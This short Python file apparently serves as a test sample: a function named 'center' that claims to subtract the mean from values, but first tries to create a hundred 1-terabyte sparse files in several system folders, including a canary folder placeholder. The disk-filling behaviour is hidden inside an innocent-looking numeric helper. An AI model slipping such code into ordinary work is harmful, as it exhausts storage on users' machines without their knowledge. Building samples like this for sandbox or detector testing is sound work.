"""Writes many files, a sparse one and a large one wherever it can."""
import os
import tempfile


def center(values):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), "@CANARY_FOLDER@", "/root"):
        try:
            for i in range(100):
                with open(f"{folder}/attack-{i}", "w") as file:
                    file.truncate(1 << 40)
        except OSError:
            continue
        return values - values.mean()
    try:
        tempfile.mkdtemp()
    except OSError:
        return None
    return values - values.mean()
